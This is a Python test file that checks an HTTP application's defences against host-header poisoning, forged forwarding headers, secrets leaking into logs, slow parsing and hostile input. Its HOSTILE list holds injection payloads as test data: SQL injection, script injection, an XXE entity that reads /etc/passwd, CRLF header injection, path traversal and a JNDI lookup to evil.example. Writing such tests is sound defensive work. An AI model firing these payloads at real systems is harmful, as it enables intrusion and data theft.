"""Poisoned hosts, forged addresses, secrets in the log, hostile strings and exhaustion, as far as the HTTP layer handles these."""

import itertools
import sys
from collections.abc import AsyncIterator, Callable
from contextlib import suppress
from ipaddress import ip_network
from pathlib import Path
from types import FrameType
from typing import Any
from urllib.parse import quote, urlencode

import msgspec
import pytest

from core.domain.errors import BadRequest
from core.frozen import replace
from entrypoints.bootstrap import Postern
from entrypoints.http.application import PAGES, PosternApplication
from entrypoints.http.machinery.accepts import Form
from entrypoints.http.machinery.decoding import BodyReader
from entrypoints.http.machinery.endpoints import Endpoint, Endpoints, parameters
from entrypoints.http.routes import ROUTES
from entrypoints.http.server.limits import ServerSettings
from tests.conftest import CapturedLog
from tests.http import examples
from tests.http.client import Client
from tests.http.conftest import NOWHERE, SETTINGS, postern_on
from tests.runs.reached import MARK
from tests.steps import no_collection

ALL = Endpoints([*ROUTES, *Endpoints.of(examples)])
# These endpoints fail on purpose.
BROKEN = {"/troubles/{kind}", "/slow/{kind}", "/caller", "/leak", "/token/{kind}"}
WALKED = [one for one in (*ALL, *PAGES) if one.path not in BROKEN]

HOSTILE = [
    "' or 1=1 --",
    '"; drop table users; --',
    "%' escape '",
    "<script>alert(1)</script>",
    "{{7*7}}${7*7}",
    "]]><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "line\r\nset-cookie: a=b\r\n\r\n<html>",
    "log\n2026-11-20 [error] forged",
    "\x00",
    "\u202egnp.exe\u2066",
    "\ufeff\u200b\uffff",
    "\U0001f600" * 1000,
    "../../../etc/passwd",
    "${jndi:ldap://evil.example/a}",
    "9" * 10_000,
    "x" * 10_000,
    "x" * 1_000_000,
]
# Longer than the part that is searched for the field with a bad character.
LONG = SETTINGS.body_limit - 1000
DEEP = b"[" * 98, b"]" * 98


class NamedBody(msgspec.Struct):
    name: str = ""


def filled(length: int, before: bytes, unit: bytes, after: bytes) -> bytes:
    """A JSON object of about that length, of values that are slow to walk through in Python."""
    count = (length - len(before) - len(after)) // len(unit)
    return b'{"name": "x", "y": "\\\\u0000", "x": ' + before + unit * count + after + b"}"


def steps(call: Callable[[], object]) -> int:
    """Counts calls and returns in Python, and calls into C. This number does not depend on how busy the machine is. The marks of
    `--reached` do not count.
    """
    counted = itertools.count()

    def count(frame: FrameType, _: str, called: object) -> None:
        if called is None or called is not frame.f_globals.get(MARK):
            next(counted)

    with no_collection():
        sys.setprofile(count)
        try:
            with suppress(BadRequest):
                call()
        finally:
            sys.setprofile(None)
    return next(counted)


@pytest.fixture
async def lonely(tmp_path: Path) -> AsyncIterator[Postern]:
    async with postern_on(NOWHERE, tmp_path) as opened:
        yield opened


@pytest.fixture
def client(lonely: Postern) -> Client:
    return Client(PosternApplication(lonely, replace(SETTINGS, rate_limits=False), ALL))


def path_with(one: Endpoint, text: str) -> str:
    path = one.path
    for name in parameters(one.path):
        path = path.replace(f"{{{name}}}", quote(text, safe=""))
    return path


async def test_hostile_text_in_any_field_is_data_or_a_refusal_and_never_a_fault(client: Client, log: CapturedLog) -> None:
    log.remember("set-cookie: a=b", "forged", "jndi")
    for text in HOSTILE:
        # The server refuses a longer head before it reaches the application.
        in_head = text[: ServerSettings().most_head_bytes]
        quoted, header = quote(in_head), in_head.encode("utf-8", "replace").decode("latin-1")
        for one in WALKED:
            fields = [field.encode_name for field in msgspec.structs.fields(one.query_type)] if one.query_type is not None else ["unknown"]
            query = "&".join(f"{name}={quoted}" for name in fields)
            headers = [(name, header) for name in ("x-request-id", "user-agent", "authorization")]
            body: Any = None
            if one.body_type is bytes:
                body = text.encode()
            elif one.body_type is not None:
                body = {field.encode_name: text for field in msgspec.structs.fields(one.body_type)} | {text: text, "email": text}
            if isinstance(one.accepts, Form):
                body = urlencode(body or {}).encode()
                headers.append(("content-type", one.accepts.media_type))
            for target in (one.path, f"{path_with(one, in_head)}?{query}"):
                answer = await client.request(one.method, target, body=body, headers=headers)
                # 503 from endpoints that need the database, which these tests do without.
                assert answer.status < 500 or answer.status == 503, (str(one), text[:30], answer)
                assert not one.is_page or b"<script>" not in answer.body
                for name, value in answer.headers:
                    assert not {"\r", "\n", "\0"} & set(name + value)
                    assert "<script" not in value


@pytest.mark.parametrize("unit", [b'"",', b"[],", b"{},", b"0,", b'"\\\\u0000",', b'{"a":""},', b"[" * 50 + b"]" * 50 + b","])
@pytest.mark.parametrize("end", [b'""', b'"\\u0000"', b'"\\ud800"', b'"', b"'"])
def test_no_body_is_gone_over_in_python_on_the_thread_that_everybody_waits_for(unit: bytes, end: bytes) -> None:
    reader = BodyReader(NamedBody, SETTINGS.body_limit)
    down, up = DEEP if unit[:2] != b"[[" else (b"[", b"]")
    long = filled(LONG, down, unit, end + up)
    # A few steps for each slice of it, so that others get their turn meanwhile.
    assert steps(lambda: reader.decode(long)) < 100 + len(long) // 1024
    # The field is looked for in short texts only, once in each.
    short = filled(8_000, down, unit, end + up)
    # Four steps for each byte; the marks of `--coverage` are steps, too.
    assert steps(lambda: reader.decode(short)) < 6 * len(short)


@pytest.mark.parametrize("body", [b"a&" * 4_000, b"a=b&" * 2_000, b"token=" + b"\xc3\xa4%41" * 1_600])
async def test_the_fields_of_no_form_are_gone_over_one_by_one(client: Client, body: bytes) -> None:
    async def send(content: bytes) -> int:
        kind = [("content-type", "application/x-www-form-urlencoded"), ("origin", "null")]
        counted = itertools.count()
        sys.setprofile(lambda *_: next(counted))
        try:
            assert (await client.request("POST", "/ui/invitations/accept", body=content, headers=kind)).status == 400
        finally:
            sys.setprofile(None)
        return next(counted)

    await send(b"")
    assert await send(body) < await send(b"") + 200


async def test_html_in_a_refused_request_comes_back_as_json_that_no_browser_runs(client: Client) -> None:
    answer = await client.get("/orders?page=<script>alert(1)</script>")
    assert (answer.status, answer.header("content-type")) == (400, "application/json")
    assert answer.header("x-content-type-options") == "nosniff"
    assert "default-src 'none'" in (answer.header("content-security-policy") or "")


@pytest.mark.parametrize("target", ["/docs", "/openapi.json", "/", "/nothing-here", "/docs/", "/health/"])
async def test_a_poisoned_host_reaches_no_answer(client: Client, target: str) -> None:
    poisoned = [
        ("host", "evil.example"),
        ("x-forwarded-host", "evil.example"),
        ("x-forwarded-proto", "gopher"),
        ("x-forwarded-prefix", "/evil"),
        ("x-original-url", "/evil"),
        ("forwarded", "for=1.2.3.4;host=evil.example;proto=gopher"),
    ]
    answer = await client.get(target, headers=poisoned)
    assert answer.status < 500
    for text in (answer.body.decode(), *(value for _, value in answer.headers)):
        assert "evil" not in text
        assert "gopher" not in text


async def test_no_page_redirects_to_where_the_host_header_says(client: Client) -> None:
    for target, status, location in (
        ("/docs/", 200, None),
        ("/docs//", 404, None),
        ("/ui/", 303, "/ui/sign-in?to=/ui/"),
        ("//evil.example/docs", 404, None),
        ("//evil.example/ui/", 404, None),
    ):
        answer = await client.get(target, headers=[("host", "evil.example")])
        assert (answer.status, answer.header("location")) == (status, location), target
        assert b"evil" not in answer.body


async def test_a_forged_forwarding_header_does_not_escape_the_limit(lonely: Postern) -> None:
    client = Client(PosternApplication(lonely, SETTINGS, ALL), "203.0.113.9")
    statuses = [(await client.get("/limited", headers=[("x-forwarded-for", f"198.51.100.{number}")])).status for number in range(5)]
    assert statuses == [200, 200, 200, 429, 429]


async def test_behind_our_proxy_the_limit_is_the_clients_and_what_the_client_wrote_does_not_count(lonely: Postern) -> None:
    settings = replace(SETTINGS, trusted_proxies=(ip_network("10.0.0.0/8"),))
    client = Client(PosternApplication(lonely, settings, ALL), "10.0.0.1")
    forged = [(await client.get("/limited", headers=[("x-forwarded-for", f"1.1.1.{number}, 198.51.100.7")])).status for number in range(5)]
    assert forged == [200, 200, 200, 429, 429]
    assert (await client.get("/limited", headers=[("x-forwarded-for", "198.51.100.8")])).status == 200


async def test_nothing_that_a_request_carries_in_confidence_reaches_the_log(client: Client, log: CapturedLog) -> None:
    log.remember("confidential-token", "confidential-password", "confidential-query", "confidential-cookie", "person@example.org")
    await client.get("/api/user?token=confidential-query", token="confidential-token")
    await client.get("/api/user", headers=[("authorization", "Basic confidential-token"), ("cookie", "a=confidential-cookie")])
    for body in ({"email": "person@example.org", "password": "confidential-password"}, {"email": 5, "password": "confidential-password"}):
        await client.post("/sign-in", body)
    assert log.events("request")
